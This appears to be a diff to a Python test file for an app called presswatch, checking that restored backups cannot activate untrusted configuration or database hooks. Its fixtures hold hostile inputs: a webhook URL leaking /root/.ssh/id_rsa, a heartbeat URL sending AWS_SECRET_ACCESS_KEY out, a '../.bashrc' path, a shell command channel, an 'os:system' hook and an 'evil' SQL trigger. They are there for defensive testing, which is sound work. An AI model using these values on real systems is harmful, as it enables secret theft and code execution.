@@ -45,7 +45,7 @@ def test_a_backup_comes_back(home: Home, tmp_path: Path) -> None:
         writer.close()
     assert stat.S_IMODE(target.stat().st_mode) == 0o600
     other = _home(tmp_path / "other")
-    assert read_backup(target, other) == other.config_path
+    assert read_backup(target, other, trusted=True) == other.config_path
     assert _titles(other) == _titles(home)
     assert other.config_path.read_text(encoding="utf-8") == "# mine\n"
     captures = list(other.captures_dir.glob("*/*.zst"))
@@ -130,42 +130,55 @@ def test_a_sparse_file_is_not_unpacked(home: Home, tmp_path: Path) -> None:
     "content",
     [
         '[channels.a]\ntype = "command"\ncommand = ["/bin/sh", "-c", "id"]\n',
-        '[[sources]]\nid = "a"\nurl = "https://a.example/"\nrecipe = { hook = "os:system" }\n',
-        '[presswatch]\nchromium = "/tmp/evil"\n',
+        '[channels.a]\ntype = "webhook"\nurl = "http://a.example/?k=${file:/root/.ssh/id_rsa}"\n',
+        '[channels.a]\ntype = "file"\npath = "../.bashrc"\n',
+        '[presswatch]\nheartbeat = "https://a.example/${env:AWS_SECRET_ACCESS_KEY}"\n',
+        "# nothing\n",
         "not [ toml",
     ],
 )
-def test_a_configuration_that_starts_programs_is_not_put_in_force(home: Home, tmp_path: Path, content: str) -> None:
+def test_a_configuration_that_nobody_has_read_is_not_put_in_force(home: Home, tmp_path: Path, content: str) -> None:
     source = _with(tmp_path / "evil.tar.gz", home, "presswatch.toml", content.encode())
+    for folder in ("other", "another"):
+        other = _home(tmp_path / folder)
+        trusted = folder == "another"
+        put = read_backup(source, other, trusted=trusted)
+        assert put == (other.config_path if trusted else other.config_path.with_name("presswatch.toml.restored"))
+        assert put.read_text(encoding="utf-8") == content
+        assert stat.S_IMODE(put.stat().st_mode) == 0o600
+        assert other.config_path.exists() == trusted
+        assert _titles(other) == _titles(home)
+
+
+def test_a_database_that_nobody_has_read_starts_no_programs(home: Home, tmp_path: Path) -> None:
+    with closing(sqlite3.connect(home.db_path, isolation_level=None)) as conn:
+        conn.execute(
+            "INSERT INTO recipes(source_id, origin, created_at, hook) "
+            "SELECT id, 'hand', '2026-01-01T00:00:00.000Z', 'os:system' FROM sources"
+        )
+        conn.execute("UPDATE sources SET config_sha256 = 'forged'")
+    source = tmp_path / "evil.tar.gz"
+    write_backup(home, source)
     other = _home(tmp_path / "other")
-    put = read_backup(source, other)
-    assert put == other.config_path.with_name("presswatch.toml.restored")
-    assert not other.config_path.exists()
+    read_backup(source, other)
+    with closing(sqlite3.connect(other.db_path)) as conn:
+        assert not conn.execute("SELECT 1 FROM recipes WHERE hook IS NOT NULL AND retired_at IS NULL").fetchall()
+        assert conn.execute("SELECT DISTINCT config_sha256 FROM sources").fetchall() == [(None,)]
     assert _titles(other) == _titles(home)
 
 
-def test_names_that_read_like_programs_start_none(home: Home, tmp_path: Path) -> None:
-    content = """
-[channels.hook]
-type = "webhook"
-url = "https://hooks.example/"
-[channels.command]
-type = "file"
-path = "hook"
-[channels.console]
-type = "console"
-[[rules]]
-name = "hook"
-channels = ["hook", "command"]
-[[sources]]
-id = "chromium"
-url = "https://a.example/"
-recipe = { item = "li.hook" }
-"""
-    source = _with(tmp_path / "mine.tar.gz", home, "presswatch.toml", content.encode())
+def test_a_database_with_triggers_of_its_own_is_not_restored(home: Home, tmp_path: Path) -> None:
+    with closing(sqlite3.connect(home.db_path, isolation_level=None)) as conn:
+        conn.execute(
+            "CREATE TRIGGER evil AFTER UPDATE ON sources "
+            "BEGIN UPDATE recipes SET hook = 'os:system', retired_at = NULL; END"
+        )
+    source = tmp_path / "evil.tar.gz"
+    write_backup(home, source)
     other = _home(tmp_path / "other")
-    assert read_backup(source, other) == other.config_path
-    assert other.config_path.read_text(encoding="utf-8") == content
+    with pytest.raises(PresswatchError, match="triggers"):
+        read_backup(source, other)
+    assert not other.db_path.exists()
 
 
 def test_a_damaged_backup_leaves_no_database(home: Home, tmp_path: Path) -> None:
